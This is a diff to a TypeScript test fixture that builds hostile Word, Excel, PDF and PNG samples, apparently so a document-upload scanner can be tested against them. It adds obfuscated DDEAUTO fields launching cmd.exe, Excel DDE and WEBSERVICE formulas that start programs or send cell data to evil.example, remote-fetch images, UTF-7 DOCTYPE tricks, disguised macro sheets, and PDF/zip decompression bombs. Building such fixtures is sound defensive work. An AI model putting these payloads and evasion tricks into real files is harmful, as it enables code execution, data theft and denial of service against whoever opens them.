@@ -22,6 +22,13 @@ const flaggedEncrypted = () => {
 const oleFile = (words: string) => Buffer.concat([Buffer.from('d0cf11e0a1b11ae1', 'hex'), Buffer.alloc(504), Buffer.from(words, 'utf16le'), Buffer.alloc(512)]);
 const action = (body: string) => rawPdf({ catalog: '/OpenAction 4 0 R', objects: [body] });
 
+const field = (words: string) => sampleDocx({ parts: [['word/header1.xml', `<w:hdr xmlns:w="x">${words}</w:hdr>`]] });
+const formula = (words: string) => sampleXlsx({ parts: [['xl/worksheets/sheet1.xml', `<worksheet xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"><sheetData><row r="1"><c r="A1"><f>${words}</f></c></row></sheetData></worksheet>`]] });
+const reworded = (from: string, to: string) => Buffer.from(rawPdf().toString('latin1').replace(from, to), 'latin1');
+/** Each branch of the page tree holds the next one twice. */
+const manyBranches = (depth: number) =>
+  rawPdf({ catalog: '/Pages 4 0 R', objects: [...Array.from({ length: depth }, (_, i) => `<< /Type /Pages /Parent 2 0 R /Count 1 /Kids [${5 + i} 0 R ${5 + i} 0 R] >>`), '<< /Type /Page /Parent 2 0 R /MediaBox [0 0 9 9] >>'] });
+
 export const hostile: Hostile[] = [
   // ---- of another kind than it says
   { why: 'a program called .pdf', name: '構成図.pdf', make: () => PROGRAM, problem: 'program' },
@@ -76,11 +83,35 @@ export const hostile: Hostile[] = [
   { why: 'an Excel file with connections', name: 'a.xlsx', make: () => sampleXlsx({ parts: [['xl/connections.xml', '<a/>']] }), problem: 'external' },
   { why: 'a script in an SVG inside a Word file', name: 'a.docx', make: () => sampleDocx({ parts: [['word/media/image1.svg', SVG]] }), problem: 'active' },
   { why: 'entities that grow without end', name: 'a.docx', make: () => sampleDocx({ parts: [['word/styles.xml', '<!DOCTYPE a [<!ENTITY b "bbbb"><!ENTITY c "&b;&b;&b;&b;">]><a>&c;</a>']] }), problem: 'unsafeXml' },
+  { why: 'the same field behind another one, cut so that no word begins there', name: 'a.docx', make: () => field('<w:instrText>PAGE</w:instrText><w:instrText a=">">DDEA</w:instrText><w:instrText>UTO c:\\cmd.exe</w:instrText>'), problem: 'external' },
+  { why: 'the same field in numbers for its letters', name: 'a.docx', make: () => field('<w:instrText>&#68;&#x44;EAUTO c:\\cmd.exe</w:instrText>'), problem: 'external' },
+  { why: 'the same field unescaped, around a comment', name: 'a.docx', make: () => field('<w:instrText><![CDATA[DDE]]><!-- x -->AUTO c:\\cmd.exe</w:instrText>'), problem: 'external' },
+  { why: 'the same field under another prefix, in another folder', name: 'a.docx', make: () => sampleDocx({ parts: [['x/y.xml', '<q:hdr xmlns:q="x"><q:fldSimple q:instr="DDEAUTO c:\\cmd.exe"/></q:hdr>']] }), problem: 'external' },
+  { why: 'a Word part in an encoding that hides its DOCTYPE', name: 'a.docx', make: () => sampleDocx({ parts: [['word/header1.xml', '<?xml version="1.0" encoding="UTF-7"?>+ADw-!DOCTYPE x+AD4-<a/>']] }), problem: 'unsafeXml' },
+  { why: 'a Word file whose picture is fetched, a space before its address', name: 'a.docx', make: () => sampleDocx({ parts: [['word/_rels/document.xml.rels', relationships(relationship('image', ' https://evil.example/a.png'))]] }), problem: 'external' },
+  { why: 'an Excel link to another program, under another name and prefix', name: 'a.xlsx', make: () => sampleXlsx({ parts: [['xl/foo.xml', '<x:externalLink xmlns:x="x"><x:ddeLink ddeService="cmd" ddeTopic="/c calc"/></x:externalLink>']] }), problem: 'external' },
+  { why: 'an Excel link to another file, under another name', name: 'a.xlsx', make: () => sampleXlsx({ parts: [['xl/_rels/workbook.xml.rels', relationships(relationship('externalLink', 'foo.xml'))]] }), problem: 'external' },
+  { why: 'an Excel formula that starts a program', name: 'a.xlsx', make: () => formula(`cmd|'/c calc'!A0`), problem: 'external' },
+  { why: 'an Excel formula that sends a cell away', name: 'a.xlsx', make: () => formula('_xlfn.WEBSERVICE("https://evil.example/?"&amp;A2)'), problem: 'external' },
+  { why: 'old macros in a part that is called a sheet', name: 'a.xlsx', make: () => sampleXlsx({ types: '<Override PartName="/xl/worksheets/sheet1.xml" ContentType="application/vnd.ms-excel.macrosheet+xml"/>', parts: [['xl/worksheets/sheet1.xml', '<a/>']] }), problem: 'macros' },
+  { why: 'a drawing in a Word file that fetches a picture', name: 'a.docx', make: () => sampleDocx({ parts: [['word/media/image1.svg', '<svg xmlns="http://www.w3.org/2000/svg"><image href="https://evil.example/a.png"/></svg>']] }), problem: 'external' },
+  { why: 'a locked PDF that says so behind a comment', name: 'a.pdf', make: () => Buffer.from(rawPdf({ objects: ['<< /Filter /Standard /V 1 /R 2 /P -4 >>'] }).toString('latin1').replace('/Root 1 0 R', '/Root 1 0 R /Encrypt%x\n4 0 R'), 'latin1'), problem: 'encrypted' },
+  // ---- what could be kept and not be opened with the reader's name on it
+  { why: 'a PDF whose page has no size', name: 'a.pdf', make: () => reworded('/MediaBox [0 0 595 842]', ''), problem: 'broken' },
+  { why: 'a PDF whose page has a word for a side', name: 'a.pdf', make: () => reworded('[0 0 595 842]', '[0 (a) 5 842]'), problem: 'broken' },
+  { why: 'a PDF whose page has a number for content', name: 'a.pdf', make: () => rawPdf({ page: '/Contents 7' }), problem: 'broken' },
+  { why: 'a PDF whose page has a number for its fonts', name: 'a.pdf', make: () => rawPdf({ page: '/Resources 7' }), problem: 'broken' },
+  { why: 'a PDF whose page does not say that it is one', name: 'a.pdf', make: () => reworded('/Type /Page /Parent', '/Parent'), problem: 'broken' },
   // ---- bombs and what is broken
+  { why: 'a PDF whose few pages hang in the tree thousands of millions of times', name: 'a.pdf', make: () => manyBranches(32), problem: 'broken' },
+  { why: 'a PDF whose page tree bites its tail', name: 'a.pdf', make: () => reworded('/Kids [3 0 R]', '/Kids [2 0 R]'), problem: 'broken' },
+  { why: 'a PDF whose objects unpack without end, the word before them spaced', name: 'a.pdf', make: () => rawPdf({ objects: [Buffer.from(streamObject('/Type /ObjStm /N 1 /First 4 /Filter /FlateDecode', deflateSync(Buffer.alloc(50 * 1024 * 1024, ' '))).toString('latin1').replace('stream\n', 'stream \r\n'), 'latin1')] }), problem: 'bomb' },
+  { why: 'the same, what they are said elsewhere', name: 'a.pdf', make: () => rawPdf({ objects: ['/ObjStm', streamObject('/Type 4 0 R /N 1 /First 4 /X ( obj) /Filter /FlateDecode', deflateSync(Buffer.alloc(50 * 1024 * 1024, ' ')))] }), problem: 'bomb' },
+  { why: 'the same, packed twice', name: 'a.pdf', make: () => rawPdf({ objects: [streamObject('/Type /ObjStm /N 1 /First 4 /Filter [/FlateDecode%\n/FlateDecode]', deflateSync(deflateSync(Buffer.alloc(50 * 1024 * 1024, ' '))))] }), problem: 'bomb' },
   { why: 'a zip bomb', name: 'a.docx', make: () => sampleDocx({ parts: [['word/media/image1.bmp', Buffer.alloc(250 * 1024 * 1024)]] }), problem: 'bomb' },
   { why: 'a zip bomb that lies about its size', name: 'a.docx', make: () => sampleDocx({ parts: [['word/media/image1.bmp', Buffer.alloc(40 * 1024 * 1024)]], lie: { 'word/media/image1.bmp': 1000 } }), problem: 'bomb' },
   { why: 'a PDF whose page unpacks to a third of a gigabyte', name: 'a.pdf', make: () => rawPdf({ page: '/Contents 4 0 R', objects: [streamObject('/Filter /FlateDecode', deflateSync(Buffer.alloc(300 * 1024 * 1024)))] }), problem: 'bomb' },
-  { why: 'a PDF whose objects unpack without end', name: 'a.pdf', make: () => rawPdf({ objects: [streamObject('/Type /ObjStm /N 1 /First 4 /Filter /FlateDecode', deflateSync(Buffer.alloc(60 * 1024 * 1024, ' ')))] }), problem: 'bomb' },
+  { why: 'a PDF whose objects unpack without end', name: 'a.pdf', make: () => rawPdf({ objects: [streamObject('/Type /ObjStm /N 1 /First 4 /Filter /FlateDecode', deflateSync(Buffer.alloc(50 * 1024 * 1024, ' ')))] }), problem: 'bomb' },
   { why: 'a PNG that unpacks to more than its size', name: 'a.png', make: () => samplePng({ data: Buffer.alloc(30_000_000) }), problem: 'bomb' },
   { why: 'a PNG of a thousand million dots', name: 'a.png', make: () => samplePng({ width: 29_000, height: 29_000, data: Buffer.alloc(10) }), problem: 'bomb' },
   { why: 'half a PDF', name: 'a.pdf', make: async () => { const bytes = await samplePdf(); return bytes.subarray(0, bytes.length / 2); }, problem: 'broken' },
